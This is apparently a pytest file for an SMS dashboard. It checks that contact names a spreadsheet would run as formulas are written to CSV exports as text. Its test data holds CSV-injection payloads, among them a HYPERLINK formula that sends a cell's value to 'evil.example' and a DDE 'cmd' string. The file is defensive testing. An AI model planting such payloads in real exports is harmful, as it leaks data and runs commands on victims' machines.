"""CSV export: a contact name that a spreadsheet would run as a formula is exported as text."""

from __future__ import annotations

import csv
import io

import pytest
from flask import Flask
from flask.testing import FlaskClient

from smsdash.extensions import db
from smsdash.models import Contact, Delivery, Message
from smsdash.web.csv_cells import as_text_cell

HYPERLINK = '=HYPERLINK("https://evil.example/?"&A2,"Click")'


@pytest.mark.parametrize("name", [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"])
def test_formula_like_names_become_text(name: str) -> None:
    assert as_text_cell(name) == "'" + name


@pytest.mark.parametrize("name", ["Ada Lovelace", "", "Jean-Luc", "O'Brien", "a=b"])
def test_ordinary_names_are_kept_exactly(name: str) -> None:
    assert as_text_cell(name) == name


def test_export_writes_a_formula_like_contact_name_as_text(app: Flask, logged_in: FlaskClient) -> None:
    with app.app_context():
        contact = Contact(name=HYPERLINK, phone="+14155550123")
        message = Message(body="Hi", recipient_count=1)
        db.session.add_all([contact, message])
        db.session.flush()
        db.session.add(
            Delivery(
                message_id=message.id, to_number=contact.phone, status="delivered", contact_id=contact.id, body="Hi"
            )
        )
        db.session.commit()
        message_id = message.id
    response = logged_in.get(f"/messages/{message_id}/deliveries.csv")
    [row] = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert row["contact_name"] == "'" + HYPERLINK
    assert row["to_number"] == "+14155550123"  # phone numbers stay exact
